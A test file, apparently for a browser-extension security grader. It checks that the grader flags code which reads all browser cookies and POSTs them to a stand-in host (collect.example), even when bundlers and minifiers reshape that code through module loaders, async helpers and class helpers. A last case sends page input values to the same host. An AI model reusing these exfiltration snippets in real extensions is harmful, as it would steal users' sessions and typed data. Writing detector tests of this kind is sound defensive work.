import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/*
 * What compilers, bundlers and minifiers make of ordinary programs, each beside the same program with nothing taken.
 * Their helpers are written as they work, not as they are published.
 */

const TAKEN = 'chrome.cookies.getAll({})';
const send = (data: string): string =>
  `fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(${data}) })`;

it.each<[string, (data: string) => string]>([
  [
    'modules of Parcel whose exports a helper of any name gives',
    (data) =>
      `(() => { function e(e, t, n, r) { Object.defineProperty(e, t, { get: n, set: r, enumerable: !0, configurable: !0 }); } var t = globalThis, n = {}, r = {}, a = t.parcelRequiref92d; null == a && ((a = function (e) { if (e in n) return n[e].exports; if (e in r) { var t = r[e]; delete r[e]; var a = { id: e, exports: {} }; return (n[e] = a), t.call(a.exports, a, a.exports), a.exports; } throw Error(e); }).register = function (e, t) { r[e] = t; }, (t.parcelRequiref92d = a)); var i = a.register; i('k9t9f', function (e, t) { var n = a('EkLao'); chrome.alarms.onAlarm.addListener(async () => { const all = await ${data}; (0, n.crunch)(all); }); }), i('EkLao', function (t, n) { e(t.exports, 'crunch', () => a); async function a(e) { ${send('e')}; } }), a('k9t9f'); })();`,
  ],
  [
    'fields given by a helper that defines them, under any name',
    (data) =>
      `var d = Object.defineProperty; var m = (o, k, v) => k in o ? d(o, k, { configurable: true, value: v }) : o[k] = v; var f = (o, k, v) => m(o, typeof k != 'symbol' ? k + '' : k, v); var Box = class { constructor(v) { f(this, 'items', v); f(this, 'sent', 0); } send() { ${send('this.items')}; } }; (async () => new Box(await ${data}).send())();`,
  ],
  [
    'functions whose names a helper keeps',
    (data) =>
      `var n = (to, v) => Object.defineProperty(to, 'name', { value: v, configurable: true }); var read = n(async () => ({ all: await ${data} }), 'read'); var go = n(async () => { const { all } = await read(); ${send('all')}; }, 'go'); go();`,
  ],
  [
    'asynchronous methods of a class by helpers, with their object handed over',
    (data) =>
      `function define(o, all) { for (var n = 0; n < all.length; n++) Object.defineProperty(o, all[n].key, all[n]); } function createClass(C, all) { return define(C.prototype, all), C; } function later(fn) { return function () { var self = this, args = arguments; return new Promise(function (done, fail) { var steps = fn.apply(self, args); function next(v) { step(steps, done, fail, next, v); } next(); }); }; } function step(g, done, fail, next, v) { var r = g.next(v); r.done ? done(r.value) : Promise.resolve(r.value).then(next, fail); } var Jar = function () { function Jar(list) { this.list = list; } return createClass(Jar, [{ key: 'flush', value: function () { var _flush = later(make().m(function inner() { return make().w(function (context) { while (1) switch (context.n) { case 0: context.n = 1; return ${send('this.list')}; case 1: return context.a(2); } }, inner, this); })); function flush() { return _flush.apply(this, arguments); } return flush; }() }]); }(); ${data}.then(function (l) { new Jar(l).flush(); });`,
  ],
  [
    'a class whose members a helper is told beside a function without a variable',
    (data) =>
      `function def(t, l) { for (var n = 0; n < l.length; n++) Object.defineProperty(t, l[n].key, l[n]); } var C = function (t, e) { return e && def(t.prototype, e), t; }(function t() { !function (t, e) { if (!(t instanceof e)) throw new TypeError('x'); }(this, t), this.to = 'https://collect.example/x'; }, [{ key: 'all', value: function () { return ${data}; } }, { key: 'send', value: function () { var t = this; return this.all().then(function (e) { return fetch(t.to, { method: 'POST', body: JSON.stringify(e) }); }); } }]); (new C).send();`,
  ],
  [
    'asynchronous generators by helpers',
    (data) =>
      `function _awaitAsyncGenerator(e) { return new Over(e, 0); } function Over(v, k) { this.v = v; this.k = k; } function _wrapAsyncGenerator(f) { return function () { return new Steps(f.apply(this, arguments)); }; } function _asyncIterator(o) { return o[Symbol.asyncIterator](); }
       class Pages { pages() { return _wrapAsyncGenerator(function* () { const rows = yield _awaitAsyncGenerator(${data}); yield rows; })(); } async run() { for (var it = _asyncIterator(this.pages()), step; !(step = await it.next()).done;) { const rows = step.value; await ${send('{ rows }')}; } } } new Pages().run();`,
  ],
  [
    'asynchronous generators that are steps as well, and give what the script keeps',
    (data) =>
      `function R() { return { w: run, m: mark }; } function Steps(e) { this.e = e; } Steps.prototype[Symbol.asyncIterator] = function () { return this; }; Steps.prototype.next = function (x) { return this.e.go(x); }; function wrap(f) { return function () { return new Steps(f.apply(this, arguments)); }; } function iter(o) { var m = o[Symbol.asyncIterator]; if (m != null) return m.call(o); } function later(f) { return function () { var self = this, args = arguments; return new Promise(function (yes, no) { var g = f.apply(self, args); go(g, yes, no); }); }; }
       var kept; ${data}.then(function (all) { kept = all; });
       function turns() { return _turns.apply(this, arguments); } function _turns() { return (_turns = wrap(R().m(function e() { return R().w(function (s) { for (;;) switch (s.n) { case 0: return s.n = 1, kept; case 1: return s.a(2); } }, e); }))).apply(this, arguments); }
       later(R().m(function e() { var it, step; return R().w(function (s) { for (;;) switch (s.n) { case 0: it = iter(turns()); case 1: return s.n = 2, it.next(); case 2: step = s.v; return s.n = 1, ${send('step.value')}; } }, e); }))();`,
  ],
  ...[
    [
      "TypeScript's",
      'var A = (this && this.A) || function (v) { return this instanceof A ? (this.v = v, this) : new A(v); }; var G = (this && this.G) || function (s, a, f) { var g = f.apply(s, a || []), i = {}; return i[Symbol.asyncIterator] = function () { return this; }, i; }; var V = (this && this.V) || function (o) { var m = o[Symbol.asyncIterator], i; return m ? m.call(o) : (i = {}, i); };',
      'return G(this, arguments, function* () { const rows = yield A(DATA); yield yield A(rows); })',
      'V(this.pages())',
      'await it.next()',
    ],
    [
      "esbuild's",
      'var k = (n) => Symbol[n], A = function (p, y) { this[0] = p; this[1] = y; }, G = (s, a, g) => { var it = {}, m = (n) => it[n] = (x) => g[n](x); return g = g.apply(s, a), it[k("asyncIterator")] = () => it, m("next"), it; }, V = (o, it, m) => (it = o[k("asyncIterator")]) ? it.call(o) : (it = {}, it);',
      'return G(this, null, function* () { const rows = yield new A(DATA); yield rows; })',
      'V(this.pages())',
      'await it.next()',
    ],
    [
      "SWC's, told in short",
      'function S(g) { this._invoke = function (n, x) { return g[n](x); }; } S.prototype["function" == typeof Symbol && Symbol.asyncIterator || "@@asyncIterator"] = function () { return this; }; S.prototype.next = function (x) { return this._invoke("next", x); }; function W(f) { return function () { return new S(f.apply(this, arguments)); }; } function A(v, k) { this.v = v; this.k = k; } function a(v) { return new A(v, 0); } function V(o) { for (var m, n = [Symbol.asyncIterator]; n.length;) if (null != (m = o[n.pop()])) return m.call(o); }',
      'return W(function* () { const rows = yield a(DATA); yield rows; })()',
      'V(this.pages())',
      'await Reflect.apply(next, it, [])',
    ],
  ].map(([whose, helpers, body = '', steps, turn]): [string, (data: string) => string] => [
    `asynchronous generators by ${whose} helpers, whatever these are called`,
    (data) =>
      `${helpers} class Pages { pages() { ${body.replace('DATA', data)}; } async run() { for (var it = ${steps}, next = it.next, step; !(step = ${turn}).done;) { const rows = step.value; await ${send('{ rows }')}; } } } new Pages().run();`,
  ]),
  [
    'what a function of the program keeps that looks like the box of such a helper',
    (data) =>
      `class All { async *[Symbol.asyncIterator]() {} } function Pair(v, k) { this.v = v; this.k = k; } ${data}.then((list) => { const pair = new Pair(list, 1); ${send('pair.v')}; });`,
  ],
  [
    'calls that a generator asks its runner for',
    (data) =>
      `const e = self.load(); const past = async () => ${data}; const post = (rows) => ${send('rows')}; function* sync() { const rows = yield (0, e.call)(past); yield (0, e.call)(post, rows); } e.run(sync);`,
  ],
  [
    'a constructor that stands in a namespace',
    (data) =>
      `var App = {}; App.Store = function (list) { this.list = list; }; App.Store.prototype.send = function () { ${send('this.list')}; }; ${data}.then(function (l) { new App.Store(l).send(); });`,
  ],
  [
    'what a generator yields, made a list of',
    (data) =>
      `function* turns(all) { for (const one of all) { if (one.value) yield { v: one.value }; if (one.more) yield* turns(one.more); } } (async () => { const list = [...turns(await ${data})]; ${send('list.map((one) => one.v)')}; })();`,
  ],
  [
    'a class by a helper that defines its methods',
    (data) =>
      `function define(o, all) { for (var n = 0; n < all.length; n++) Object.defineProperty(o, all[n].key, all[n]); } function createClass(C, all, own) { return all && define(C.prototype, all), own && define(C, own), C; } var Jar = (function () { function Jar() {} return createClass(Jar, [{ key: 'all', value: function () { return ${data}; } }]); })(); new Jar().all().then(function (l) { ${send('l')}; });`,
  ],
  [
    'the same where a minifier put the helper in its place',
    (data) =>
      `function d(o, all) { for (var n = 0; n < all.length; n++) Object.defineProperty(o, all[n].key, all[n]); } var jar = new (function () { return t = function t() {}, (n = [{ key: 'all', value: function () { return ${data}; } }]) && d(t.prototype, n), Object.defineProperty(t, 'prototype', { writable: !1 }), t; var t, n; }())(); jar.all().then(function (l) { ${send('l')}; });`,
  ],
  [
    'private fields kept in maps',
    (data) =>
      `var get = (o, map) => (check(map, o), map.get(o)); var check = (m, o) => m.has(o) || fail(); var add = (o, map, v) => map.set(o, v); var _list; class Box { constructor() { add(this, _list, []); } put(one) { get(this, _list).push(one); this.flush(); } flush() { ${send('get(this, _list).splice(0)')}; } } _list = new WeakMap(); const box = new Box(); (async () => box.put(await ${data}))();`,
  ],
  [
    'waiting by a helper that runs a generator, under any name',
    (data) =>
      `var a = (self, args, steps) => new Promise((done, fail) => { var on = (v) => { try { go(steps.next(v)); } catch (e) { fail(e); } }; var go = (r) => r.done ? done(r.value) : Promise.resolve(r.value).then(on); go((steps = steps.apply(self, args)).next()); }); function read() { return a(this, null, function* () { return { all: yield ${data} }; }); } setInterval(() => a(null, null, function* () { let l = yield read(); ${send('l')}; }), 9000);`,
  ],
  [
    'waiting by a helper that makes a function of steps, under any name',
    (data) =>
      `function w(fn) { return function () { var self = this, args = arguments; return new Promise(function (done, fail) { var steps = fn.apply(self, args); function next(v) { step(steps, done, fail, next, v); } next(); }); }; } function step(g, done, fail, next, v) { var r = g.next(v); r.done ? done(r.value) : Promise.resolve(r.value).then(next, fail); } var read = w(function* () { return { all: yield ${data} }; }); var run = w(function* () { var l = yield read(); ${send('l')}; }); run();`,
  ],
  [
    'the same where a minifier put the helper in its place',
    (data) =>
      `var tell = function () { var t, n = (t = function* (l) { ${send('l')}; }, function () { var self = this, args = arguments; return new Promise(function (done, fail) { var steps = t.apply(self, args); function next(v) { var r = steps.next(v); r.done ? done(r.value) : Promise.resolve(r.value).then(next, fail); } next(); }); }); return function (l) { return n.apply(this, arguments); }; }(); ${data}.then(function (l) { tell(l); });`,
  ],
  [
    'a generator that is made of steps',
    (data) =>
      `var marked = regen().m(read); function read() { return regen().w(function (context) { for (;;) switch (context.n) { case 0: return context.n = 1, ${data}; case 1: return context.a(2); } }, marked); } ${send('Array.from(read())')};`,
  ],
  [
    'modules that are exported in a list',
    (data) =>
      `(() => { var mods = { 1(e, t, n) { n.d(t, ['all', 0, () => ${data}]); }, 2(e, t, n) { function tell(l) { ${send('l')}; } n.d(t, ['tell', () => tell]); } }; var cache = {}; function need(id) { var known = cache[id]; if (known !== undefined) return known.exports; var module = (cache[id] = { exports: {} }); mods[id](module, module.exports, need); return module.exports; } need.d = (e, list) => { for (var i = 0; i < list.length;) { var name = list[i++], get = list[i++]; Object.defineProperty(e, name, get ? { get } : { value: list[i++] }); } }; var one = need(1), other = need(2); (0, one.all)().then((l) => { (0, other.tell)(l); }); })();`,
  ],
  [
    'a module that is one function, loaded at its first use',
    (data) =>
      `(() => { var wrap = (run, module) => () => (module || (run((module = { exports: {} }).exports, module, module.exports), (run = null)), module.exports); var readIt = wrap((e, m) => { m.exports = function () { return ${data}; }; }); var { tell } = wrap((e) => { e.tell = function (l) { ${send('l')}; }; })(); var read = readIt(); read().then((l) => { tell(l); }); })();`,
  ],
  [
    'modules in a list that a variable holds',
    (data) =>
      `(() => { var mods = ([ , ((m, e, n) => { n.d(e, { default: () => own }); const own = { all: () => ${data} }; }), ((m, e, n) => { n.d(e, { tell: () => tell }); function tell(l) { ${send('l')}; } })]); var cache = {}; function need(id) { var known = cache[id]; if (known !== undefined) return known.exports; var module = (cache[id] = { exports: {} }); mods[id](module, module.exports, need); return module.exports; } need.d = (e, all) => { for (var k in all) Object.defineProperty(e, k, { get: all[k] }); }; var one = need(1), other = need(2); one['default'].all().then((l) => { (0, other.tell)(l); }); })();`,
  ],
  [
    'a class that extends another, with its server in a field',
    (data) =>
      `var Net = (function (_super) { __extends(Net, _super); function Net(host) { var _this = _super.call(this) || this; _this.host = host; return _this; } Net.prototype.tell = function (l) { fetch('https://' + this.host + '/x', { method: 'POST', body: JSON.stringify(l) }); }; return Net; })(Base); var net = new Net('collect.example'); ${data}.then(function (l) { net.tell(l); });`,
  ],
  [
    'jQuery inside of a bundle',
    (data) =>
      `(() => { function factory(w) { var jQuery = function (at) { return new jQuery.fn.init(at); }; jQuery.fn = jQuery.prototype = { jquery: '4.0.0' }; jQuery.each = function (o, f) { for (var k in o) f.call(o[k], k, o[k]); return o; }; return jQuery; } var jq = factory(window); ${data}.then((l) => { var rows = []; jq.each(l, (n, one) => { rows.push(one); }); jq.ajax({ url: 'https://collect.example/x', type: 'POST', data: JSON.stringify(rows) }); }); })();`,
  ],
  [
    'a module whose loading is put off',
    (data) =>
      `(() => { var mods = { './read.js'(module, exports) { exports.read = function () { return ${data}; }; } }; var cache = {}; function need(id) { var known = cache[id]; if (known !== undefined) return known.exports; var module = (cache[id] = { exports: {} }); mods[id](module, module.exports, need); return module.exports; } var later = () => { return need('./read.js'); }; const { read } = (later()); read().then((l) => { ${send('l')}; }); })();`,
  ],
])('%s', async (_, background) => {
  expect(await graded({ background: background(TAKEN) })).toBe('F');
  expect(await graded({ background: background('Promise.resolve([1])') })).toMatch(/^A/);
});

it.each<[string, (data: string) => string]>([
  [
    'a module that is loaded when it is needed',
    (data) => `${data}.then((l) => { import('./tell.js').then((m) => m.tell(l)); });`,
  ],
  [
    'the same, waited for',
    (data) => `(async () => { const l = await ${data}; (await import('./tell.js')).tell(l); })();`,
  ],
  [
    'the same, as steps',
    (data) =>
      `__awaiter(void 0, void 0, void 0, function () { var l; return __generator(this, function (state) { switch (state.label) { case 0: return [4, ${data}]; case 1: l = state.sent(); return [4, Promise.resolve().then(function () { return __importStar(require('./tell.js')); })]; case 2: state.sent().tell(l); return [2]; } }); });`,
  ],
])('%s', async (_, background) => {
  const scanned = (data: string): Promise<string> =>
    graded({
      background: background(data),
      manifest: { background: { service_worker: 'background.js', type: 'module' } },
      files: { 'tell.js': `export function tell(l) { ${send('l')}; }` },
    });
  expect(await scanned(TAKEN)).toBe('F');
  expect(await scanned('Promise.resolve([1])')).toMatch(/^A/);
});

it('a module put into one object, inside of a bundle', async () => {
  const background = (data: string): string =>
    `(() => { var put = (o, all) => { for (var k in all) Object.defineProperty(o, k, { get: all[k], enumerable: true }); }; var net = {}; put(net, { tell: () => tell }); function tell(l) { ${send('l')}; } ${data}.then(async (l) => { (await Promise.resolve().then(() => net)).tell(l); }); })();`;
  expect(await graded({ background: background(TAKEN) })).toBe('F');
  expect(await graded({ background: background('Promise.resolve([1])') })).toMatch(/^A/);
});

it('parts of one bundle in several scripts', async () => {
  const chunk = (id: number, modules: string): string =>
    `(self.webpackChunkapp = self.webpackChunkapp || []).push([[${id}], { ${modules} }]);`;
  const runtime =
    '(() => { var mods = {}, cache = {}; function n(id) { var known = cache[id]; if (known !== undefined) return known.exports; var module = (cache[id] = { exports: {} }); mods[id](module, module.exports, n); return module.exports; } n.d = (e, all) => { for (var k in all) Object.defineProperty(e, k, { get: all[k] }); }; var list = (self.webpackChunkapp = self.webpackChunkapp || []); list.push = (part) => Object.assign(mods, part[1]); n(10); })();';
  const scanned = (data: string): Promise<string> =>
    graded({
      files: {
        'runtime.js': runtime,
        'lib.js': chunk(
          1,
          `11: (e, t, n) => { n.d(t, { all: () => all }); const all = () => ${data}; }, 12: (e, t) => { e.exports = function (l) { ${send('l')}; }; }`,
        ),
        'main.js': chunk(
          2,
          '10: (e, t, n) => { var one = n(11), tell = n(12); (0, one.all)().then((l) => { tell(l); }); }',
        ),
      },
      manifest: { manifest_version: 2, background: { scripts: ['runtime.js', 'lib.js', 'main.js'] } },
    });
  expect(await scanned(TAKEN)).toBe('F');
  expect(await scanned('Promise.resolve([1])')).toMatch(/^A/);
});

it('loops over fields of a page, as compilers write them', async () => {
  const send = "fetch('https://collect.example/x?' + DATA)";
  const forOf = (data: string): string =>
    `var it = iterate(document.querySelectorAll('input')), step; try { for (it.s(); !(step = it.n()).done;) { var one = step.value; ${send.replace('DATA', data)}; } } catch (e) { it.e(e); } finally { it.f(); }`;
  const values = (data: string): string =>
    `for (var a = values(document.querySelectorAll('input')), b = a.next(); !b.done; b = a.next()) { var one = b.value; ${send.replace('DATA', data)}; }`;
  for (const content of [forOf, values]) {
    expect(await graded({ content: content('one.value') })).toBe('F');
    expect(await graded({ content: content('one.value.length') })).toMatch(/^A/);
  }
});
